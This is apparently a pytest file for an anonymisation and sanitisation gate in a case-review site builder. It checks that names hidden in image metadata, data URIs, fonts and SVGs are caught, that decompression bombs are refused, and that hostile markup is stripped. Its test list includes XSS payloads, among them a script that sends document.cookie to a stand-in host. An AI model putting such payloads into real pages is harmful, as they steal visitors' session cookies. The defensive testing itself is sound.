"""Inline data and images on the public site: what the gate reads and what check reports."""

from __future__ import annotations

import base64
import gzip
import io
import random
import zipfile
from pathlib import Path

import pytest

import casereview.anonymise.scan as gate_scan
from casereview.anonymise import UNREADABLE, format_leak, scan_paths
from casereview.anonymise.datauri import MAX_DEPTH
from casereview.cli.main import main
from casereview.sources.key import Key
from test_anonymise_support import fixture_key, image_with_metadata

SUMMARY = "content/reviews/mini-2024/executive-summary.md"


def short_name_key() -> Key:
    """1,500 invented names of one or two short syllables each: the worst case for
    binary noise that happens to spell a name."""
    rnd = random.Random(7)

    def word() -> str:
        return "".join(rnd.choice("bcdfgklmnprstvz") + rnd.choice("aeiou") for _ in range(rnd.choice((1, 2))))

    return Key.from_mapping(
        {"entities": [{"acronym": f"P{i}", "category": "family", "names": [f"{word()} {word()}"]} for i in range(1500)]}
    )


def _b64(text: str | bytes) -> str:
    raw = text.encode("utf-8") if isinstance(text, str) else text
    return base64.b64encode(raw).decode("ascii")


def test_a_leak_in_an_image_names_acronym_file_and_field(tmp_path: Path) -> None:
    name, data = image_with_metadata("jpeg-exif", "Priya Ramanathan")
    (tmp_path / name).write_bytes(data)
    messages = [format_leak(leak) for leak in scan_paths([tmp_path], fixture_key())]
    assert any('"SW1"' in m and name in m and "EXIF Artist" in m for m in messages), messages
    assert not any("Ramanathan" in m for m in messages)


@pytest.mark.parametrize(
    "content",
    [b"\x89PNG\r\n\x1a\n" + b"\x00" * 40, b"\xff\xd8\xff\xe0broken", b"GIF89a\x01"],
    ids=["png", "jpeg", "gif"],
)
def test_an_image_the_gate_cannot_read_is_refused(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "figure.png").write_bytes(content)
    leaks = scan_paths([tmp_path], fixture_key())
    assert [leak.acronym for leak in leaks] == [UNREADABLE]
    assert "cannot check it" in format_leak(leaks[0])


def test_a_truncated_png_is_refused(tmp_path: Path) -> None:
    _, data = image_with_metadata("png-text", "Figure 1")
    (tmp_path / "figure.png").write_bytes(data[: len(data) // 2])
    assert [leak.acronym for leak in scan_paths([tmp_path], fixture_key())] == [UNREADABLE]


def test_a_gzip_stream_that_unpacks_too_far_is_refused_unread(tmp_path: Path, monkeypatch) -> None:
    """A "gzip bomb" (megabytes that unpack to gigabytes) must not exhaust the gate's
    memory: it is unpacked to a limit, and refused beyond it."""
    monkeypatch.setattr(gate_scan, "GZIP_LIMIT", 10_000)
    (tmp_path / "sitemap.xml.gz").write_bytes(gzip.compress(b"<url>Figure</url>" * 600))
    leaks = scan_paths([tmp_path], fixture_key())
    assert [leak.acronym for leak in leaks] == [UNREADABLE]
    assert "decompresses to more than 10,000 bytes" in leaks[0].location


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def test_an_archive_whose_members_together_unpack_too_far_is_refused(tmp_path: Path, monkeypatch) -> None:
    """Each member below the limit, all of them above it: still refused, never read in part."""
    monkeypatch.setattr(gate_scan, "ZIP_LIMIT", 10_000)
    members = {f"part{i}.txt": b"Figure " * 1000 for i in range(3)}  # 7,000 bytes each
    (tmp_path / "data.xlsx").write_bytes(_zip(members))
    leaks = scan_paths([tmp_path], fixture_key())
    assert [leak.acronym for leak in leaks] == [UNREADABLE]
    assert "unpacks to more than 10,000 bytes" in leaks[0].location


def test_archives_nested_beyond_the_limit_are_refused(tmp_path: Path) -> None:
    data = b"<p>Figure</p>"
    for level in range(MAX_DEPTH + 1):
        data = _zip({f"level{level}.zip": data})
    (tmp_path / "nested.zip").write_bytes(data)
    assert [leak.acronym for leak in scan_paths([tmp_path], fixture_key())] == [UNREADABLE]


def test_a_name_in_a_png_inside_a_data_uri_in_css(tmp_path: Path) -> None:
    _, png = image_with_metadata("png-text", "Kayleigh Harper")
    (tmp_path / "extra.css").write_text(f".logo {{ background: url(data:image/png;base64,{_b64(png)}) }}")
    leaks = scan_paths([tmp_path], fixture_key())
    assert [(leak.acronym, leak.location) for leak in leaks] == [
        ("Mother M", 'line 1, in a data: URI (image/png) image metadata PNG text "Author"')
    ]


def test_nested_data_uris_are_read_to_the_limit_and_refused_beyond(tmp_path: Path) -> None:
    payload = "<p>Okafor</p>"
    for _ in range(MAX_DEPTH - 1):
        payload = f'<img src="data:text/html;base64,{_b64(payload)}">'
    page = f'<img src="data:text/html;base64,{_b64(payload)}">'
    (tmp_path / "page.html").write_text(page)
    assert {leak.acronym for leak in scan_paths([tmp_path], fixture_key())} == {"Aunt G"}
    (tmp_path / "page.html").write_text(f'<img src="data:text/html;base64,{_b64(page)}">')
    assert {leak.acronym for leak in scan_paths([tmp_path], fixture_key())} == {UNREADABLE}


def test_a_data_uri_with_no_name_is_clean(tmp_path: Path) -> None:
    _, png = image_with_metadata("png-text", "Timeline of events")
    (tmp_path / "page.html").write_text(f'<p>Figure</p><img src="data:image/png;base64,{_b64(png)}" alt="timeline">')
    assert scan_paths([tmp_path], fixture_key()) == []


def test_check_reports_a_name_inside_a_data_uri_in_a_publishable_source(
    mini_project: Path, capsys, monkeypatch
) -> None:
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><title>Poppy Fenwick-Lowe</title></svg>'
    summary = mini_project / SUMMARY
    summary.write_text(summary.read_text() + f"\n![Figure](data:image/svg+xml;base64,{_b64(svg)})\n")
    line = summary.read_text().splitlines().index(f"![Figure](data:image/svg+xml;base64,{_b64(svg)})") + 1
    monkeypatch.chdir(mini_project)
    assert main(["check", "content"]) == 1
    out = capsys.readouterr().out
    assert f'{SUMMARY}:{line}: error: a real name of "Child A" is written here inside a data: URI' in out
    assert "Poppy" not in out and "Fenwick" not in out


# --- raw markup in public documents ----------------------------------------------
HOSTILE = [
    ("script", '<script>fetch("https://x.example/?c=" + document.cookie)</script>', "the <script> element", "<script"),
    ("img onerror", '<img src="chart.png" onerror="alert(1)">', "the onerror attribute on <img>", "onerror"),
    ("javascript link", "[the plan](javascript:alert(1))", "a javascript: address in the href of <a>", "javascript:"),
    ("iframe", '<iframe src="https://x.example/"></iframe>', "the <iframe> element", "<iframe"),
    ("object", '<object data="x.swf"></object>', "the <object> element", "<object"),
    ("style url", '<p style="background: url(javascript:alert(1))">Note</p>', "the style attribute on <p>", "url("),
]


@pytest.mark.parametrize(("what", "markup", "message", "gone"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_markup_is_removed_from_public_html(what: str, markup: str, message: str, gone: str) -> None:
    import markdown

    from casereview.anonymise.sanitise import SITE_MARKDOWN_EXTENSIONS, sanitise_html

    html = markdown.markdown(f"Child A was seen.\n\n{markup}\n", extensions=SITE_MARKDOWN_EXTENSIONS)
    assert gone in html
    cleaned = sanitise_html(html)
    assert gone not in cleaned
    assert "<p>Child A was seen.</p>" in cleaned


@pytest.mark.parametrize(("what", "markup", "message", "gone"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_check_reports_hostile_markup_in_a_publishable_document(
    mini_project: Path, capsys, monkeypatch, what: str, markup: str, message: str, gone: str
) -> None:
    summary = mini_project / SUMMARY
    text = summary.read_text() + f"\n{markup}\n"
    summary.write_text(text)
    line = text.splitlines().index(markup) + 1
    monkeypatch.chdir(mini_project)
    assert main(["check", "content"]) == 1
    out = capsys.readouterr().out
    assert f"{SUMMARY}:{line}: error: {message}" in out, out
    assert "would be removed from the public page" in out


def test_markdown_the_site_makes_is_kept_whole() -> None:
    """Tables, abbreviations, footnotes, admonitions, details, code, attr_list ids and
    classes, inline data images: nothing of it is removed or reported."""
    from casereview.anonymise.sanitise import markup_problems

    body = (
        "# Findings {#findings .lead}\n\nThe GP saw Child A.[^1]\n\n| When | What |\n|:--|--:|\n| 2023 | Visit |\n\n"
        '!!! note "Panel"\n    A note.\n\n???+ warning "More"\n    Detail.\n\n```text\ncode\n```\n\n'
        "<div markdown>**Bold**</div>\n\n![chart](chart.png){ width=300 } ![dot](data:image/png;base64,iVBORw0K)\n\n"
        '<abbr title="General Practitioner">GP</abbr> <sup>2</sup> <span class="x">s</span>\n\n'
        "*[GP]: General Practitioner\n\n[^1]: A footnote.\n"
    )
    assert markup_problems(body) == []


def test_the_allow_list_is_written_for_the_sites_markdown_extensions() -> None:
    import yaml

    from casereview.anonymise.sanitise import SITE_MARKDOWN_EXTENSIONS
    from casereview.render.markdown import MARKDOWN_EXTENSIONS
    from project_paths import PROJECT

    config = yaml.safe_load((PROJECT / "mkdocs.yml").read_text())
    names = [next(iter(e)) if isinstance(e, dict) else e for e in config["markdown_extensions"]]
    assert names == SITE_MARKDOWN_EXTENSIONS == MARKDOWN_EXTENSIONS


def test_internal_pages_are_not_sanitised(mini_project: Path) -> None:
    from casereview.render.rendered_page import RenderedPage
    from casereview.render.site import SiteState

    markup = '<p>Note<iframe src="https://x.example/"></iframe></p>'
    for audience, kept in (("internal", True), ("public", False)):
        state = SiteState.load(mini_project / "content", audience, run_checks=False)
        page = RenderedPage("reviews/mini-2024/executive-summary.md", "x/", "Summary", {"type": "page"}, markup)
        assert ("<iframe" in state.finish_html(page)) is kept


# --- the public key -----------------------------------------------------------------
KEY = "content/reviews/mini-2024/key.yml"


def _with_roles(project: Path, role: str, public_role: str | None) -> None:
    key = project / KEY
    text = key.read_text().replace("role: Mother of Child A", f'role: "{role}"')
    if public_role is not None:
        text = text.replace(f'role: "{role}"', f'role: "{role}"\n    public_role: "{public_role}"')
    key.write_text(text)


def test_public_key_never_shows_the_panels_role(mini_project: Path) -> None:
    from casereview.render.pages import key_page_markdown
    from casereview.sources.review import load_review

    _with_roles(mini_project, "Mother of Child A, born 14/02/1994", None)
    review = load_review(mini_project / "content/reviews/mini-2024")
    public = key_page_markdown(review, with_names=False)
    assert "1994" not in public
    assert "<td>Mother M</td><td>Mother of Child A</td>" in public
    assert "14/02/1994" in key_page_markdown(review, with_names=True)


def test_public_key_shows_public_role(mini_project: Path) -> None:
    from casereview.render.pages import key_page_markdown
    from casereview.sources.review import load_review

    _with_roles(mini_project, "Mother of Child A, born 14/02/1994", "Child A's mother")
    review = load_review(mini_project / "content/reviews/mini-2024")
    public = key_page_markdown(review, with_names=False)
    assert "Child A&#x27;s mother" in public and "1994" not in public


def test_check_reports_an_identifier_in_public_role(mini_project: Path, capsys, monkeypatch) -> None:
    _with_roles(mini_project, "Mother of Child A", "Mother of Child A, date of birth 14/02/1994")
    monkeypatch.chdir(mini_project)
    assert main(["check", "content"]) == 1
    out = capsys.readouterr().out
    line = (
        (mini_project / KEY)
        .read_text()
        .splitlines()
        .index('    public_role: "Mother of Child A, date of birth 14/02/1994"')
    )
    assert f'{KEY}:{line + 1}: error: field "Mother M.public_role": a date of birth' in out, out
    assert "14/02/1994" not in out


def test_check_reports_a_name_and_a_script_in_an_svg_a_public_document_shows(
    mini_project: Path, capsys, monkeypatch
) -> None:
    review = mini_project / "content/reviews/mini-2024"
    (review / "figure.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg">\n<desc>Drawn by Grace Fenwick</desc>\n'
        '<circle r="2" onload="alert(1)"/>\n</svg>\n'
    )
    (review / "imr" / "internal.svg").write_text("<svg><script>alert(1)</script><desc>Grace Fenwick</desc></svg>")
    summary = review / "executive-summary.md"
    summary.write_text(summary.read_text() + "\n![Figure](figure.svg)\n")
    monkeypatch.chdir(mini_project)
    assert main(["check", "content"]) == 1
    out = capsys.readouterr().out
    figure = "content/reviews/mini-2024/figure.svg"
    assert f'{figure}:2: error: this line holds a real name of "Mother M"' in out, out
    assert f"{figure}:3: error: an event handler attribute (on...=): the public site shows this SVG" in out
    assert "internal.svg" not in out and "Fenwick" not in out


def test_compressed_pixels_and_thumbnails_never_spell_a_name(tmp_path: Path) -> None:
    """Raw bytes are read only by their printable runs: noise must not block a build.
    A key of 1,500 short invented names (two to four letters each: the worst case)."""
    from io import BytesIO

    from PIL import Image, ImageCms

    rnd = random.Random(7)
    key = short_name_key()
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    for index in range(6):
        noise = Image.frombytes("RGB", (160, 160), rnd.randbytes(160 * 160 * 3))
        exif = Image.Exif()
        exif[0x010E] = "Figure"
        for fmt, suffix in (("PNG", "png"), ("JPEG", "jpg"), ("WEBP", "webp")):
            out = BytesIO()
            noise.save(out, fmt, icc_profile=icc, exif=exif)
            (tmp_path / f"noise{index}.{suffix}").write_bytes(out.getvalue())
    assert scan_paths([tmp_path], key) == []


def test_check_reports_an_unreadable_image_a_public_document_shows(mini_project: Path, capsys, monkeypatch) -> None:
    review = mini_project / "content/reviews/mini-2024"
    (review / "chart.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\x00" * 64)
    summary = review / "executive-summary.md"
    summary.write_text(summary.read_text() + "\n![Chart](chart.png)\n")
    monkeypatch.chdir(mini_project)
    assert main(["check", "content"]) == 1
    out = capsys.readouterr().out
    assert "content/reviews/mini-2024/chart.png: error: image cannot be read" in out
    assert "the public site shows this image; save it again or remove it" in out


def test_a_font_inside_css_is_read_by_its_text_only(tmp_path: Path) -> None:
    """A base64 font is compressed data: read whole it would spell names at random;
    its printable runs (a font's name table) are still read. (The base64 text itself
    is read as text too, as before: only the decoded payload is tested here.)"""
    noise = random.Random(3).randbytes(200_000)
    (tmp_path / "fonts.css").write_text(f"@font-face {{ src: url(data:font/woff2;base64,{_b64(noise)}) }}")
    assert [leak for leak in scan_paths([tmp_path], short_name_key()) if "data: URI" in leak.location] == []
    named = noise[:1000] + b"\x00\x00Copyright Priya Ramanathan\x00" + noise[1000:]
    (tmp_path / "fonts.css").write_text(f"@font-face {{ src: url(data:font/woff2;base64,{_b64(named)}) }}")
    assert {leak.acronym for leak in scan_paths([tmp_path], fixture_key())} == {"SW1"}
